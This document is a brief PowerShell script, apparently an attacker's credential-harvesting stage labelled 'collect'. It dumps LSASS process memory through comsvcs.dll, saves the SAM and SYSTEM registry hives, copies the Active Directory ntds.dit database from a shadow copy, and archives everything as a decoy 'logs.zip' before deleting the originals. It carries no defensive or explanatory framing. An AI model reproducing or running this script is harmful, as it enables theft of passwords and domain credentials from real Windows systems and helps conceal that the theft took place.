# collect
$out = 'C:\Users\Public\Libraries'
New-Item -ItemType Directory -Path $out -Force | Out-Null

$lsass = Get-Process -Name lsass
$dump = Join-Path $out 'dbg.dmp'
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $lsass.Id $dump full

reg save HKLM\SAM "$out\s.hiv" /y
reg save HKLM\SYSTEM "$out\y.hiv" /y

cmd /c "copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\ntds.dit $out\n.dit"

Compress-Archive -Path "$out\*" -DestinationPath "$out\logs.zip" -Force
Get-ChildItem $out -Exclude logs.zip | Remove-Item -Force
